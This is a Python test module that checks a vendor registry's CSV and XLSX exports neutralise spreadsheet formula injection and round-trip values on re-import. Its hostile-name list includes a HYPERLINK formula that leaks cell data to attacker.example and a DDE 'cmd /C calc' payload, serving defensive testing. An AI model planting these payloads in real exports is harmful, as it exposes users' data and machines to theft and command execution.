"""No exported cell can start a formula, whatever separator a spreadsheet's locale splits at,
and an import of the export gives back every value as it was."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from helpers import vendor
from test_bulk import XLSX, create, export, imported, listed

from registry.bulk import formats

TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
# What some spreadsheet splits a line of CSV at, in some locale (or a reader ignoring quotes).
SEPARATORS = [",", ";", "\t", "|"]

# Names are one line; purposes may hold tabs and line breaks.
HOSTILE_NAMES = [
    'x;=HYPERLINK("https://attacker.example/?leak="&A1)',
    "Acme,=1+1",
    "Acme|@SUM(A1:A9)",
    "Acme; -2+3",
    "Acme;+cmd|' /C calc'!A0",
    "\uff1dHYPERLINK(1)",
    "Acme;\uff20SUM(1)",
    "Acme,\uff0b1",
    "Acme,\uff0d1",
    "  =1",
    "'=already quoted",
    "Acme;'=quoted after a separator",
    "Acme;''@twice",
    "It's fine; really",
    "Dash-in-the-middle, 3-4",
]
HOSTILE_PURPOSES = [
    "first line\n=1+1",
    "tab\t=1",
    "a\r\n@SUM(1)",
    "\t-leading tab",
    "x|\t;=1",
]


def cells_as_split_at(text: str, separator: str) -> list[str]:
    """Every cell a spreadsheet splitting lines at `separator` would see, quotes ignored as a
    semicolon-locale Excel ignores a comma file's quoting."""
    return [cell for line in text.splitlines() for cell in line.split(separator)]


def cells_read_at(text: str, separator: str) -> list[str]:
    """Every cell a spreadsheet reading quotes, splitting at `separator`, would see."""
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
    return [cell for line in reader for cell in line]


def register(client, staff, purposes: list[str]) -> list[dict]:
    for index, name in enumerate(HOSTILE_NAMES):
        purpose = purposes[index % len(purposes)]
        create(
            client,
            staff,
            vendor(name, effective_on="2025-01-01", purpose=purpose, legal_entity=name + " Ltd"),
        )
    return listed(client, staff)


@pytest.fixture
def hostile(client, staff) -> list[dict]:
    return register(client, staff, HOSTILE_PURPOSES)


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_starts_a_formula_in_any_locale(client, staff, hostile, separator):
    text = export(client, staff).get_data(as_text=True)

    for cells in (cells_as_split_at(text, separator), cells_read_at(text, separator)):
        for cell in cells:
            assert cell.lstrip(" ")[:1] not in TRIGGERS or not cell.strip(), (separator, cell)
            # A quote opening a cell (a comma file's quoting) is followed by text, not a formula.
            assert cell.lstrip(' "')[:1] not in TRIGGERS or not cell.strip(' "'), (separator, cell)


def test_the_cells_are_neutralised_as_documented(client, staff, hostile):
    text = export(client, staff).get_data(as_text=True)
    names = [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]

    assert names[0] == 'x;\'=HYPERLINK("https://attacker.example/?leak="&A1)'
    assert names[3] == "Acme; '-2+3"
    assert names[5] == "'\uff1dHYPERLINK(1)"
    assert names[9] == "  '=1"
    assert names[10] == "''=already quoted"
    assert names[11] == "Acme;''=quoted after a separator"
    assert names[13] == "It's fine; really"  # nothing to neutralise: left as it is
    assert names[14] == "Dash-in-the-middle, 3-4"


@pytest.mark.parametrize("media_type", [formats.CSV, XLSX])
def test_a_reimport_of_the_export_gives_back_every_value(client, staff, media_type):
    # XML reads a carriage return as a line feed: an XLSX cannot hold one as openpyxl writes.
    purposes = (
        HOSTILE_PURPOSES
        if media_type == formats.CSV
        else [purpose.replace("\r", "") for purpose in HOSTILE_PURPOSES]
    )
    hostile = register(client, staff, purposes)
    body = export(client, staff, media_type).data

    result = imported(client, staff, body, media_type)

    assert result["unchanged"] == len(HOSTILE_NAMES)
    assert result["created"] == result["updated"] == 0
    assert listed(client, staff) == hostile
    assert [item["name"] for item in hostile] == HOSTILE_NAMES


def test_the_xlsx_export_holds_the_same_text_cells(client, staff, hostile):
    text = export(client, staff).get_data(as_text=True)
    from_csv = [row[1] for row in csv.reader(io.StringIO(text, newline=""))]
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, staff, XLSX).data)).active

    assert [cell.value for cell in sheet["B"]] == from_csv
    assert all(cell.data_type == "s" for cell in sheet["B"])


@pytest.mark.parametrize(
    "value",
    [
        *HOSTILE_NAMES,
        *HOSTILE_PURPOSES,
        "",
        "'",
        "''",
        ";",
        "=",
        "\t\t=",
        "a;;=b",
        "'a;'",
        "\uff1d\uff1d",
    ],
)
def test_restore_undoes_neutralise(value):
    assert formats.restore(formats.neutralise(value)) == value
    assert formats.neutralise(value) == value or formats.neutralise(value).count("'") > (
        value.count("'")
    )
